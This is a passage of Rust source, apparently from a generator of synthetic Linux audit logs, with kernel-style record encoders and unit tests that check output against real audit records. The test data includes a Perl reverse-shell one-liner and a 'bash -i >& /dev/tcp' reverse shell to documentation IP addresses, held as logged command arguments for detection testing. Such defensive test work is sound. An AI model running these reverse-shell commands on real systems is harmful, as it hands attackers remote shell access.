    push_untrusted(&mut b, spec.exe.as_bytes());
    let addr = m.addr.map(|a| a.to_string());
    let _ = write!(
        b,
        " hostname={} addr={} terminal={} res={}'",
        m.hostname.as_deref().unwrap_or("?"),
        addr.as_deref().unwrap_or("?"),
        m.terminal.as_deref().unwrap_or("?"),
        m.outcome.word()
    );
    b
}

// ---------------------------------------------------------------------------------------------
// Encodings

/// The kernel's `audit_string_contains_control`: such strings are logged as hex.
fn needs_hex(bytes: &[u8]) -> bool {
    bytes.iter().any(|&c| c == b'"' || !(0x21..=0x7e).contains(&c))
}

fn push_hex(out: &mut String, bytes: &[u8]) {
    const DIGITS: &[u8; 16] = b"0123456789ABCDEF";
    out.reserve(bytes.len() * 2);
    for &b in bytes {
        out.push(DIGITS[usize::from(b >> 4)] as char);
        out.push(DIGITS[usize::from(b & 15)] as char);
    }
}

/// `audit_log_untrustedstring`: `"text"`, or uppercase hex when the text needs it.
fn push_untrusted(out: &mut String, bytes: &[u8]) {
    if needs_hex(bytes) {
        push_hex(out, bytes);
    } else {
        out.push('"');
        // Only printable ASCII reaches here.
        out.push_str(&String::from_utf8_lossy(bytes));
        out.push('"');
    }
}

fn push_key(out: &mut String, key: Option<&str>) {
    out.push_str(" key=");
    match key {
        Some(k) => push_untrusted(out, k.as_bytes()),
        None => out.push_str("(null)"),
    }
}

fn id_or_unset(id: Option<u32>) -> u32 {
    id.unwrap_or(AUDIT_UNSET)
}

/// `"name"`, `"unset"` or `"unknown(N)"`, as the enriched format writes ids.
fn push_name(out: &mut String, names: &HashMap<u32, String>, id: Option<u32>) {
    match id {
        None | Some(AUDIT_UNSET) => out.push_str("\"unset\""),
        Some(id) => match names.get(&id) {
            Some(n) => {
                let _ = write!(out, "\"{n}\"");
            }
            None => {
                let _ = write!(out, "\"unknown({id})\"");
            }
        },
    }
}

/// The `PROCTITLE` value: the command line with NUL separators, cut to
/// [`MAX_PROCTITLE_AUDIT_LEN`] bytes, trailing unprintable bytes trimmed
/// (`audit_proctitle_rtrim`), then quoted or hex like any untrusted string.
fn push_proctitle(out: &mut String, argv: &[String], comm: &str) {
    let mut buf: Vec<u8> = Vec::with_capacity(MAX_PROCTITLE_AUDIT_LEN);
    for a in argv {
        buf.extend_from_slice(a.as_bytes());
        buf.push(0);
    }
    if buf.is_empty() {
        push_untrusted(out, comm.as_bytes());
        return;
    }
    buf.truncate(MAX_PROCTITLE_AUDIT_LEN);
    let printable = |c: u8| (0x20..=0x7e).contains(&c);
    let mut end = buf.len() - 1;
    while end > 0 && !printable(buf[end]) {
        end -= 1;
    }
    let mut len = end + 1;
    if !printable(buf[len - 1]) {
        len -= 1;
    }
    push_untrusted(out, &buf[..len]);
}

/// The bodies of the `EXECVE` records for `argv`: the kernel's `audit_log_execve_info`, step
/// for step. Every argument is fetched into a [`MAX_EXECVE_AUDIT_LEN`]-byte buffer; one that
/// does not fit, or holds bytes that need it, is hex-encoded; one that does not fit in what is
/// left of the record is written in pieces (`aN_len=` then `aN[0]=`, `aN[1]=`…), and a record
/// without room for another argument name is ended and a new one started (its body begins
/// with a space, so the line reads `):  a1[1]=…`).
fn execve_bodies(argv: &[String]) -> Vec<String> {
    const LEN_MAX: usize = MAX_EXECVE_AUDIT_LEN;
    let mut records = Vec::new();
    let mut cur = format!("argc={}", argv.len());
    let mut len_rem = LEN_MAX;
    for (arg_no, arg) in argv.iter().enumerate() {
        let bytes = arg.as_bytes();
        // Read position in the argument, and the window of it held in the buffer.
        let mut p = 0usize;
        let (mut buf_start, mut len_buf) = (0usize, 0usize);
        let mut len_full = bytes.len();
        let mut len_abuf = 0usize;
        let mut require_data = true;
        let mut encode = false;
        let mut iter = 0u32;
        loop {
            if require_data {
                let room = LEN_MAX - len_buf;
                // strncpy_from_user: `room` when no NUL is found within `room` bytes.
                let len_tmp = (bytes.len() - p).min(room);
                if len_tmp == room {
                    require_data = true;
                    encode = true;
                    len_full *= 2;
                    p += len_tmp;
                } else {
                    require_data = false;
                    if !encode {
                        encode = needs_hex(&bytes[p..p + len_tmp]);
                    }
                    if len_full < LEN_MAX {
                        len_full = if encode { len_tmp * 2 } else { len_tmp };
                    }
                    p += len_tmp;
                }
                if len_buf == 0 {
                    buf_start = p - len_tmp;
                }
                len_buf += len_tmp;
                len_abuf = if encode { len_buf * 2 } else { len_buf + 2 };
            }
            if EXECVE_ARG_NAME_BUF + 8 > len_rem {
                len_rem = LEN_MAX;
                records.push(std::mem::take(&mut cur));
            }
            let name_start = cur.len();
            if require_data || iter > 0 || len_abuf + EXECVE_ARG_NAME_BUF > len_rem {
                if iter == 0 {
                    let _ = write!(cur, " a{arg_no}_len={len_full}");
                }
                let _ = write!(cur, " a{arg_no}[{iter}]=");
                iter += 1;
            } else {
                let _ = write!(cur, " a{arg_no}=");
            }
            len_rem -= cur.len() - name_start;
            let mut take = len_buf;
            if encode {
                if len_abuf > len_rem {
                    take = len_rem / 2;
                }
                push_hex(&mut cur, &bytes[buf_start..buf_start + take]);
                len_rem -= take * 2;
                len_abuf -= take * 2;
            } else {
                if len_abuf > len_rem {
                    take = len_rem - 2;
                }
                cur.push('"');
                cur.push_str(&String::from_utf8_lossy(&bytes[buf_start..buf_start + take]));
                cur.push('"');
                len_rem -= take + 2;
                len_abuf -= take;
            }
            len_buf -= take;
            buf_start += take;
            if len_buf == 0 && !require_data {
                break;
            }
        }
    }
    records.push(cur);
    records
}

/// Deterministic register values for an event's a0..a3 (pointers, descriptors).
struct RandomArgs(u64);

impl RandomArgs {
    fn new(spec: &AuditSpec) -> Self {
        RandomArgs(spec.serial.wrapping_mul(0x9E37_79B9_7F4A_7C15) ^ (u64::from(spec.pid) << 17))
    }

    fn mix(&self, salt: u64) -> u64 {
        let mut z = self.0.wrapping_add(salt.wrapping_mul(0xBF58_476D_1CE4_E5B9));
        z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
        z ^ (z >> 31)
    }

    /// A heap pointer of a PIE process (`55…`/`56…`).
    fn heap(&self, salt: u64) -> u64 {
        0x5500_0000_0000 + (self.mix(salt) & 0x01ff_ffff_fff0)
    }

    /// A stack pointer (`7ff…`).
    fn stack(&self, salt: u64) -> u64 {
        0x7ffc_0000_0000 + (self.mix(salt) & 0x3_ffff_fff0)
    }

    fn small(&self, salt: u64) -> u64 {
        self.mix(salt) & 0xffff
    }

    fn fd(&self) -> u64 {
        3 + self.mix(99) % 28
    }
}

/// A stable inode number for a path.
fn inode_of(path: &str) -> u64 {
    let mut h: u64 = 0xcbf2_9ce4_8422_2325;
    for b in path.bytes() {
        h = (h ^ u64::from(b)).wrapping_mul(0x0100_0000_01b3);
    }
    1000 + h % 4_000_000
}

#[cfg(test)]
mod tests {
    //! Expected lines are real records (the corpus path is named beside each) rebuilt from
    //! specs with the same values; `PATH` inodes, which the writer derives from the path, are
    //! masked.

    use super::*;
    use std::path::Path;
    use std::process::Command;

    const T_EXECVE: Timestamp = 1_615_114_232_375_000_000;

    fn text(events: &[AuditSpec], opts: &AuditWriterOptions) -> String {
        let mut out = Vec::new();
        write_events(events, opts, &mut out).unwrap();
        String::from_utf8(out).unwrap()
    }

    fn lines_of<'a>(text: &'a str, rtype: &str) -> Vec<&'a str> {
        text.lines().filter(|l| l.contains(&format!("type={rtype} "))).collect()
    }

    fn mask_inode(line: &str) -> String {
        let mut out = Vec::new();
        for f in line.split(' ') {
            out.push(if f.starts_with("inode=") { "inode=N" } else { f });
        }
        out.join(" ")
    }

    fn whoami() -> AuditSpec {
        AuditSpec {
            pid: 10884,
            ppid: 10883,
            auid: Some(1000),
            ses: Some(1),
            tty: Some("pts1".into()),
            cwd: "/home/user/tmp".into(),
            args: Some([0x63b29337fd18, 0x63b293387d58, 0x63b293375640, 0xfffffffffffff000]),
            ..AuditSpec::new(T_EXECVE, 15558, "/usr/bin/whoami", AuditKind::Execve { argv: vec!["whoami".into()] })
        }
    }

    #[test]
    fn execve_event_enriched_with_node_as_auditd_writes_it() {
        // laurel/src/testdata/record-execve.txt
        let opts = AuditWriterOptions {
            node: Some("work".into()),
            format: LogFormat::Enriched,
            eoe: true,
            names: vec![(0, "root".into()), (1000, "user".into())],
            ..AuditWriterOptions::default()
        };
        let t = text(&[whoami()], &opts);
        let lines: Vec<&str> = t.lines().collect();
        assert_eq!(lines.len(), 7, "{t}");
        assert_eq!(
            lines[0],
            "node=work type=SYSCALL msg=audit(1615114232.375:15558): arch=c000003e syscall=59 success=yes exit=0 \
             a0=63b29337fd18 a1=63b293387d58 a2=63b293375640 a3=fffffffffffff000 items=2 ppid=10883 pid=10884 \
             auid=1000 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts1 ses=1 comm=\"whoami\" \
             exe=\"/usr/bin/whoami\" key=(null)\x1dARCH=x86_64 SYSCALL=execve AUID=\"user\" UID=\"root\" \
             GID=\"root\" EUID=\"root\" SUID=\"root\" FSUID=\"root\" EGID=\"root\" SGID=\"root\" FSGID=\"root\""
        );
        assert_eq!(lines[1], "node=work type=EXECVE msg=audit(1615114232.375:15558): argc=1 a0=\"whoami\"");
        assert_eq!(lines[2], "node=work type=CWD msg=audit(1615114232.375:15558): cwd=\"/home/user/tmp\"");
        assert_eq!(
            mask_inode(lines[3]),
            "node=work type=PATH msg=audit(1615114232.375:15558): item=0 name=\"/usr/bin/whoami\" inode=N \
             dev=fd:01 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 \
             cap_fver=0 cap_frootid=0\x1dOUID=\"root\" OGID=\"root\""
        );
        assert!(lines[4].contains(" item=1 name=\"/lib64/ld-linux-x86-64.so.2\" "));
        assert_eq!(lines[5], "node=work type=PROCTITLE msg=audit(1615114232.375:15558): proctitle=\"whoami\"");
        assert_eq!(lines[6], "node=work type=EOE msg=audit(1615114232.375:15558): ");
        // Raw, without node or EOE: what most on-disk logs hold.
        let raw = text(&[whoami()], &AuditWriterOptions::default());
        assert_eq!(raw.lines().count(), 6);
        assert!(raw.starts_with("type=SYSCALL msg=audit(1615114232.375:15558): arch=c000003e syscall=59 "));
        assert!(!raw.contains('\x1d') && !raw.contains("EOE"));
    }

    #[test]
    fn execve_arguments_quoted_or_hex_and_proctitle_cut_at_128_bytes() {
        // laurel/src/testdata/record-perl-reverse-shell.txt
        let script = "use Socket;$i=\"10.0.0.1\";$p=1234;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));\
                      if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,\">&S\");open(STDOUT,\">&S\");\
                      open(STDERR,\">&S\");exec(\"/bin/sh -i\");};";
        let spec = AuditSpec {
            cwd: "/root".into(),
            ..AuditSpec::new(
                1_626_611_363_720_000_000,
                348501,
                "/usr/bin/perl",
                AuditKind::Execve { argv: vec!["perl".into(), "-e".into(), script.into()] },
            )
        };
        let t = text(&[spec], &AuditWriterOptions::default());
        let mut hex = String::new();
        push_hex(&mut hex, script.as_bytes());
        assert_eq!(
            lines_of(&t, "EXECVE"),
            [format!("type=EXECVE msg=audit(1626611363.720:348501): argc=3 a0=\"perl\" a1=\"-e\" a2={hex}")]
        );
        assert_eq!(
            lines_of(&t, "PROCTITLE"),
            ["type=PROCTITLE msg=audit(1626611363.720:348501): proctitle=7065726C002D650075736520536F636B65743B24\
              693D2231302E302E302E31223B24703D313233343B736F636B657428532C50465F494E45542C534F434B5F53545245414D2C\
              67657470726F746F62796E616D6528227463702229293B696628636F6E6E65637428532C736F636B616464725F696E2824702C\
              696E65745F6174"]
        );
        assert_eq!(lines_of(&t, "CWD"), ["type=CWD msg=audit(1626611363.720:348501): cwd=\"/root\""]);
        // An empty argument is quoted; a space forces hex.
        let bodies = execve_bodies(&["ls".into(), "".into(), "a b".into()]);
        assert_eq!(bodies, ["argc=3 a0=\"ls\" a1=\"\" a2=612062"]);
    }

    #[test]
    fn long_argument_split_like_the_kernel() {
        // laurel/src/testdata/record-execve-long.txt: an 8192-byte argument becomes three
        // EXECVE records (7550, 7544 and 1480 bytes long), its length given doubled.
        let arg = format!("b{}cd{}ef{}g", "a".repeat(3730), "a".repeat(3744), "a".repeat(712));
        let spec = AuditSpec::new(
            1_615_150_974_493_000_000,
            21028,
            "/bin/echo",
            AuditKind::Execve { argv: vec!["/bin/echo".into(), arg.clone()] },
        );
        let t = text(&[spec], &AuditWriterOptions::default());
        let execve = lines_of(&t, "EXECVE");
        assert_eq!(execve.iter().map(|l| l.len()).collect::<Vec<_>>(), [7550, 7544, 1480]);
        let prefix = "type=EXECVE msg=audit(1615150974.493:21028): ";
        assert!(execve[0].starts_with(&format!("{prefix}argc=2 a0=\"/bin/echo\" a1_len=16384 a1[0]=62616161")));
        assert!(execve[1].starts_with(&format!("{prefix} a1[1]=64616161")));
        assert!(execve[2].starts_with(&format!("{prefix} a1[2]=66616161")));
        let mut joined = String::new();
        for (i, l) in execve.iter().enumerate() {
            let piece = l.split(&format!("a1[{i}]=")).nth(1).unwrap();
            joined.push_str(piece);
        }
        let mut hex = String::new();
        push_hex(&mut hex, arg.as_bytes());
        assert_eq!(joined, hex);
        // Many short arguments fill records too: each stays whole or is split with a length.
        let argv: Vec<String> = (0..2000).map(|i| format!("arg{i}")).collect();
        let bodies = execve_bodies(&argv);
        assert!(bodies.len() > 1);
        assert!(bodies.iter().all(|b| b.len() <= MAX_EXECVE_AUDIT_LEN + 20));
        assert!(bodies[1].starts_with(' '));
    }

    #[test]
    fn connects_ipv4_and_ipv6_in_progress() {
        // laurel/src/testdata/record-connect.txt
        let php = |serial, addr: SocketAddr, result, args| AuditSpec {
            pid: 1074252,
            ppid: 1074250,
            uid: 48,
            gid: 48,
            euid: 48,
            egid: 48,
            args: Some(args),
            ..AuditSpec::new(
                1_723_819_442_459_000_000,
                serial,
                "/usr/bin/php",
                AuditKind::Connect { addr: SockAddr::Inet(addr), result },
            )
        };
        let events = [
            php(2482681, "127.0.0.1:11211".parse().unwrap(), ConnectResult::Connected, [8, 0x5556eca10aa0, 0x10, 4]),
            php(
                2482682,
                "[::1]:11211".parse().unwrap(),
                ConnectResult::InProgress,
                [8, 0x5556ec9f92f0, 0x1c, 0xffffffff],
            ),
        ];
        let t = text(&events, &AuditWriterOptions::default());
        let common = "items=0 ppid=1074250 pid=1074252 auid=4294967295 uid=48 gid=48 euid=48 suid=48 fsuid=48 \
                      egid=48 sgid=48 fsgid=48 tty=(none) ses=4294967295 comm=\"php\" exe=\"/usr/bin/php\" key=(null)";
        assert_eq!(
            lines_of(&t, "SYSCALL"),
            [
                format!(
                    "type=SYSCALL msg=audit(1723819442.459:2482681): arch=c000003e syscall=42 success=yes \
                     exit=0 a0=8 a1=5556eca10aa0 a2=10 a3=4 {common}"
                ),
                format!(
                    "type=SYSCALL msg=audit(1723819442.459:2482682): arch=c000003e syscall=42 success=no \
                     exit=-115 a0=8 a1=5556ec9f92f0 a2=1c a3=ffffffff {common}"
                ),
            ]
        );
        assert_eq!(
            lines_of(&t, "SOCKADDR"),
            [
                "type=SOCKADDR msg=audit(1723819442.459:2482681): saddr=02002BCB7F0000010000000000000000",
                "type=SOCKADDR msg=audit(1723819442.459:2482682): \
                 saddr=0A002BCB000000000000000000000000000000000000000100000000",
            ]
        );
        assert_eq!(lines_of(&t, "PROCTITLE").len(), 2);
        assert!(lines_of(&t, "CWD").is_empty() && lines_of(&t, "PATH").is_empty());
    }

    #[test]
    fn unix_socket_connect_has_cwd_and_path_and_enriched_saddr() {
        // laurel/src/testdata/record-nscd.txt (enriched)
        let spec = AuditSpec {
            uid: 1000,
            auid: Some(1000),
            cwd: "/home/user".into(),
            ..AuditSpec::new(
                1_705_071_450_879_000_000,
                29498378,
                "/usr/bin/ls",
                AuditKind::Connect {
                    addr: SockAddr::Unix("/var/run/nscd/socket".into()),
                    result: ConnectResult::Failed(2),
                },
            )
        };
        let opts = AuditWriterOptions { format: LogFormat::Enriched, ..AuditWriterOptions::default() };
        let t = text(&[spec], &opts);
        let sys = lines_of(&t, "SYSCALL")[0];
        assert!(
            sys.contains(" syscall=42 success=no exit=-2 ") && sys.contains(" a2=6e ") && sys.contains(" items=1 ")
        );
        assert!(sys.contains("\x1dARCH=x86_64 SYSCALL=connect AUID=\"unknown(1000)\" UID=\"unknown(1000)\""));
        let saddr = lines_of(&t, "SOCKADDR")[0];
        assert!(saddr.contains("saddr=01002F7661722F72756E2F6E7363642F736F636B657400"), "{saddr}");
        assert!(saddr.ends_with("\x1dSADDR={ saddr_fam=local path=/var/run/nscd/socket }"));
        assert_eq!(saddr.split("saddr=").nth(1).unwrap().split('\x1d').next().unwrap().len(), 220);
        assert_eq!(lines_of(&t, "CWD"), ["type=CWD msg=audit(1705071450.879:29498378): cwd=\"/home/user\""]);
        assert!(lines_of(&t, "PATH")[0].contains(" name=\"/var/run/nscd/socket\" "));
    }

    #[test]
    fn ptrace_and_kill_carry_obj_pid() {
        // laurel/src/testdata/record-ptrace.txt
        let target = TargetProcess { pid: 2732155, auid: Some(0), uid: 0, ses: Some(2), comm: "sleep".into() };
        let spec = AuditSpec {
            subj: Some("unconfined".into()),
            ..AuditSpec::new(
                1_739_218_487_007_000_000,
                22145057,
                "/usr/bin/strace",
                AuditKind::Ptrace { target: target.clone(), request: 0x4206 },
            )
        };
        let t = text(&[spec], &AuditWriterOptions::default());
        assert_eq!(
            lines_of(&t, "OBJ_PID"),
            ["type=OBJ_PID msg=audit(1739218487.007:22145057): opid=2732155 oauid=0 ouid=0 oses=2 \
                 obj=unconfined ocomm=\"sleep\""]
        );
        assert!(lines_of(&t, "SYSCALL")[0].contains(" syscall=101 success=yes exit=0 a0=4206 a1=29b07b a2=0 "));
        let kill = AuditSpec::new(
            1,
            2,
            "/usr/bin/kill",
            AuditKind::Kill { target: TargetProcess { auid: None, ses: None, ..target }, signal: 9 },
        );
        let t = text(&[kill], &AuditWriterOptions::default());
        assert!(lines_of(&t, "SYSCALL")[0].contains(" syscall=62 success=yes exit=0 a0=29b07b a1=9 "));
        assert!(lines_of(&t, "OBJ_PID")[0].ends_with("opid=2732155 oauid=-1 ouid=0 oses=-1 ocomm=\"sleep\""));
    }

    #[test]
    fn module_load_bind_sendto_accept() {
        let at = |kind| AuditSpec::new(1_700_000_000_000_000_000, 7, "/usr/bin/kmod", kind);
        let t = text(
            &[at(AuditKind::ModuleLoad { name: "nf_tables".into(), call: ModuleCall::FinitModule })],
            &AuditWriterOptions::default(),
        );
        assert!(lines_of(&t, "SYSCALL")[0].contains(" syscall=313 success=yes exit=0 "));
        assert_eq!(lines_of(&t, "KERN_MODULE"), ["type=KERN_MODULE msg=audit(1700000000.000:7): name=\"nf_tables\""]);
        let addr = SockAddr::Inet("0.0.0.0:8080".parse().unwrap());
        let t = text(&[at(AuditKind::Bind { addr })], &AuditWriterOptions::default());
        assert!(lines_of(&t, "SYSCALL")[0].contains(" syscall=49 success=yes exit=0 "));
        assert!(lines_of(&t, "SOCKADDR")[0].ends_with("saddr=02001F90000000000000000000000000"));
        let dns = SockAddr::Inet("10.0.0.2:53".parse().unwrap());
        let t = text(&[at(AuditKind::SendTo { addr: dns, len: 44 })], &AuditWriterOptions::default());
        assert!(lines_of(&t, "SYSCALL")[0].contains(" syscall=44 success=yes exit=44 "));
        let peer = SockAddr::Inet("[2001:db8::7]:50000".parse().unwrap());
        let mut spec = at(AuditKind::Accept { peer, call: AcceptCall::Accept4 });
        spec.args = Some([6, 0x7ffc00001000, 0x7ffc00001080, 0x800]);
        let t = text(&[spec], &AuditWriterOptions { format: LogFormat::Enriched, ..AuditWriterOptions::default() });
        assert!(lines_of(&t, "SYSCALL")[0].contains(" syscall=288 success=yes exit=7 a0=6 "));
        assert!(lines_of(&t, "SOCKADDR")[0].ends_with("\x1dSADDR={ saddr_fam=inet6 laddr=2001:db8::7 lport=50000 }"));
    }

    #[test]
    fn user_space_records() {
        let sshd = |ts, serial, pid, auid, ses, kind| AuditSpec {
            pid,
            auid,
            ses,
            ..AuditSpec::new(ts, serial, "/usr/sbin/sshd", kind)
        };
        let ok = UserMessage {
            account: Account::Id(1001),
            hostname: Some("72.83.230.100".into()),
            addr: Some("72.83.230.100".parse().unwrap()),
            terminal: Some("/dev/pts/1".into()),
            ..UserMessage::new("")
        };
        let bad = UserMessage {
            addr: Some("179.38.151.221".parse().unwrap()),
            terminal: Some("sshd".into()),
            outcome: Outcome::Failed,
            ..UserMessage::new("(invalid user)")
        };
        let events = [
            // go-libaudit/aucoalesce/testdata (ubuntu-16.04 / -17.04)
            sshd(1_492_810_797_778_000_000, 12651, 11396, Some(1001), Some(36), AuditKind::UserLogin(ok)),
            sshd(1_492_896_301_818_000_000, 19955, 12635, None, None, AuditKind::UserLogin(bad)),
        ];
        let t = text(&events, &AuditWriterOptions::default());
        assert_eq!(
            t.lines().collect::<Vec<_>>(),
            [
                "type=USER_LOGIN msg=audit(1492810797.778:12651): pid=11396 uid=0 auid=1001 ses=36 msg='op=login id=1001 \
                 exe=\"/usr/sbin/sshd\" hostname=72.83.230.100 addr=72.83.230.100 terminal=/dev/pts/1 res=success'",
                "type=USER_LOGIN msg=audit(1492896301.818:19955): pid=12635 uid=0 auid=4294967295 ses=4294967295 \
                 msg='op=login acct=28696E76616C6964207573657229 exe=\"/usr/sbin/sshd\" hostname=? \
                 addr=179.38.151.221 terminal=sshd res=failed'",
            ]
        );

        // laurel/src/testdata/line-user-acct.txt (enriched)
        let acct = AuditSpec {
            pid: 9460,
            uid: 1000,
            auid: Some(1000),
            ses: Some(1),
            ..AuditSpec::new(
                1_615_113_648_981_000_000,
                15220,
                "/usr/bin/sudo",
                AuditKind::UserAcct(UserMessage {
                    grantors: Some("pam_permit".into()),
                    terminal: Some("/dev/pts/1".into()),
                    ..UserMessage::new("user")
                }),
            )
        };
        let opts = AuditWriterOptions {
            format: LogFormat::Enriched,
            names: vec![(0, "root".into()), (1000, "user".into())],
            ..AuditWriterOptions::default()
        };
        assert_eq!(
            text(&[acct], &opts),
            "type=USER_ACCT msg=audit(1615113648.981:15220): pid=9460 uid=1000 auid=1000 ses=1 \
             msg='op=PAM:accounting grantors=pam_permit acct=\"user\" exe=\"/usr/bin/sudo\" hostname=? addr=? \
             terminal=/dev/pts/1 res=success'\x1dUID=\"user\" AUID=\"user\"\n"
        );

        // laurel/src/testdata/record-login.txt (enriched)
        let login = AuditSpec {
            pid: 72605,
            auid: Some(0),
            ses: Some(325),
            subj: Some("unconfined".into()),
            ..AuditSpec::new(
                1_640_027_821_949_000_000,
                151316,
                "/usr/sbin/cron",
                AuditKind::Login { old_auid: None, old_ses: None },
            )
        };
        assert_eq!(
            text(&[login], &opts),
            "type=LOGIN msg=audit(1640027821.949:151316): pid=72605 uid=0 subj=unconfined old-auid=4294967295 \
             auid=0 tty=(none) old-ses=4294967295 ses=325 res=1\x1dUID=\"root\" OLD-AUID=\"unset\" AUID=\"root\"\n"
        );

        // go-libaudit/auparse/testdata/audit-rhel7.log
        let stop = AuditSpec {
            subj: Some("system_u:system_r:init_t:s0".into()),
            ..AuditSpec::new(
                1_481_076_984_534_000_000,
                16,
                "/usr/lib/systemd/systemd",
                AuditKind::ServiceStop { unit: "irqbalance".into() },
            )
        };
        assert_eq!(
            text(&[stop], &AuditWriterOptions::default()),
            "type=SERVICE_STOP msg=audit(1481076984.534:16): pid=1 uid=0 auid=4294967295 ses=4294967295 \
             subj=system_u:system_r:init_t:s0 msg='unit=irqbalance comm=\"systemd\" \
             exe=\"/usr/lib/systemd/systemd\" hostname=? addr=? terminal=? res=success'\n"
        );

        let rule = AuditSpec::new(
            1_492_749_467_018_000_000,
            1209,
            "/usr/sbin/auditctl",
            AuditKind::ConfigChange {
                op: "add_rule".into(),
                key: Some("pam".into()),
                list: 4,
                outcome: Outcome::Success,
            },
        );
        assert_eq!(
            text(&[rule], &AuditWriterOptions::default()),
            "type=CONFIG_CHANGE msg=audit(1492749467.018:1209): auid=4294967295 ses=4294967295 op=add_rule \
             key=\"pam\" list=4 res=1\n"
        );
        let add = AuditSpec::new(1, 2, "/usr/sbin/useradd", AuditKind::AddUser(UserMessage::new("bob")));
        assert!(text(&[add], &AuditWriterOptions::default()).contains(
            " msg='op=add-user acct=\"bob\" exe=\"/usr/sbin/useradd\" hostname=? addr=? terminal=? res=success'"
        ));
    }

    #[test]
    fn interleaving_mixes_consecutive_events() {
        let a = whoami();
        let b = AuditSpec { serial: 15559, ..whoami() };
        let c = AuditSpec { serial: 15560, ..whoami() };
        let opts = AuditWriterOptions { interleave: true, ..AuditWriterOptions::default() };
        let t = text(&[a, b, c], &opts);
        let serials: Vec<&str> = t.lines().map(|l| l.split(':').nth(1).unwrap().split(')').next().unwrap()).collect();
        assert_eq!(serials.len(), 18);
        assert_eq!(&serials[..4], ["15558", "15559", "15558", "15559"]);
        assert!(serials[12..].iter().all(|s| *s == "15560"));
    }

    #[test]
    fn background_is_deterministic_and_near_its_size() {
        let cfg = BackgroundConfig {
            seed: 3,
            start: 1_715_677_200 * NANOS_PER_SEC,
            duration: 3600 * NANOS_PER_SEC,
            target_bytes: 2_000_000,
            options: AuditWriterOptions::default(),
        };
        let (mut a, mut b) = (Vec::new(), Vec::new());
        let sa = generate_background(&cfg, &mut a).unwrap();
        let sb = generate_background(&cfg, &mut b).unwrap();
        assert_eq!(a, b);
        assert_eq!(sa, sb);
        assert_eq!(sa.bytes, a.len() as u64);
        assert!((2_000_000..2_020_000).contains(&sa.bytes), "{}", sa.bytes);
        let per_event = sa.bytes / sa.events;
        assert!((600..850).contains(&per_event), "{per_event} bytes per event (raw): {sa:?}");
        for kind in ["execve", "connect", "accept", "USER_LOGIN", "USER_AUTH", "SERVICE_START", "CRED_ACQ"] {
            assert!(sa.by_kind.iter().any(|(k, n)| k == kind && *n > 0), "no {kind}: {:?}", sa.by_kind);
        }
        assert!(sa.last > sa.first && sa.last - sa.first < 2 * cfg.duration);
        let text = String::from_utf8(a).unwrap();
        assert!(text.lines().all(|l| l.starts_with("type=") && l.contains(" msg=audit(")));
        assert!(text.contains("success=no exit=-115"));
    }

    /// The serial of each line (`msg=audit(…:SERIAL)`).
    fn serials(text: &str) -> Vec<u64> {
        let mut out: Vec<u64> = text
            .lines()
            .filter_map(|l| l.split("msg=audit(").nth(1)?.split(')').next()?.split(':').nth(1)?.parse().ok())
            .collect();
        out.sort_unstable();
        out.dedup();
        out
    }

    /// ausearch (auditd's own reader) accepts what the writer writes: every event is found,
    /// execve arguments and socket addresses read back as written. Skipped without ausearch.
    #[test]
    fn ausearch_reads_generated_logs() {
        let ausearch = Path::new("/usr/sbin/ausearch");
        if !ausearch.exists() {
            eprintln!("skipped: /usr/sbin/ausearch is not installed (apt-get install auditd)");
            return;
        }
        let dir = tempfile::tempdir().unwrap();
        let script = "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1";
        let mut events = vec![
            AuditSpec { auid: Some(1000), ses: Some(4), ..whoami() },
            AuditSpec::new(
                T_EXECVE + NANOS_PER_SEC,
                15600,
                "/usr/bin/bash",
                AuditKind::Execve { argv: vec!["bash".into(), "-c".into(), script.into()] },
            ),
            AuditSpec::new(
                T_EXECVE + 2 * NANOS_PER_SEC,
                15601,
                "/usr/bin/curl",
                AuditKind::Connect {
                    addr: SockAddr::Inet("[2001:db8::5]:443".parse().unwrap()),
                    result: ConnectResult::InProgress,
                },
            ),
            AuditSpec::new(
                T_EXECVE + 3 * NANOS_PER_SEC,
                15602,
                "/usr/bin/nc",
                AuditKind::Connect {
                    addr: SockAddr::Inet("198.51.100.23:8443".parse().unwrap()),
                    result: ConnectResult::Connected,
                },
            ),
        ];
        events.push(AuditSpec::new(
            T_EXECVE + 4 * NANOS_PER_SEC,
            15603,
            "/usr/sbin/sshd",
            AuditKind::UserLogin(UserMessage {
                addr: Some("192.0.2.77".parse().unwrap()),
                terminal: Some("ssh".into()),
                outcome: Outcome::Failed,
                ..UserMessage::new("root")
            }),
        ));
        let at =
            |i: i64, exe: &str, kind| AuditSpec::new(T_EXECVE + (5 + i) * NANOS_PER_SEC, 15604 + i as u64, exe, kind);
        let target = TargetProcess { pid: 812, auid: None, uid: 0, ses: None, comm: "nginx".into() };
        events.extend([
            at(0, "/usr/bin/python3.11", AuditKind::Bind { addr: SockAddr::Unix("/run/app/app.sock".into()) }),
            at(1, "/usr/bin/kmod", AuditKind::ModuleLoad { name: "nf_tables".into(), call: ModuleCall::FinitModule }),
            at(2, "/usr/bin/kill", AuditKind::Kill { target: target.clone(), signal: 15 }),
            at(3, "/usr/bin/strace", AuditKind::Ptrace { target, request: 0x10 }),
            at(4, "/usr/sbin/useradd", AuditKind::AddUser(UserMessage::new("mallory"))),
            at(5, "/usr/lib/systemd/systemd", AuditKind::ServiceStart { unit: "backdoor".into() }),
        ]);
        let cfg = BackgroundConfig {
            seed: 11,
            start: T_EXECVE + 10 * NANOS_PER_SEC,
            duration: 1800 * NANOS_PER_SEC,
            target_bytes: 600_000,
            options: AuditWriterOptions::default(),
        };
        for (name, opts) in [
            ("raw", AuditWriterOptions::default()),
            (
                "enriched-node-interleaved",
                AuditWriterOptions {
                    node: Some("web-01".into()),
                    format: LogFormat::Enriched,
                    interleave: true,
                    ..AuditWriterOptions::default()
                },
            ),
            ("eoe", AuditWriterOptions { eoe: true, ..AuditWriterOptions::default() }),
        ] {
            let path = dir.path().join(format!("{name}.log"));
            let mut out = Vec::new();
            let stats = write_events(&events, &opts, &mut out).unwrap();
            let bg = generate_background(&BackgroundConfig { options: opts.clone(), ..cfg.clone() }, &mut out).unwrap();
            std::fs::write(&path, &out).unwrap();
            let written = String::from_utf8(out).unwrap();
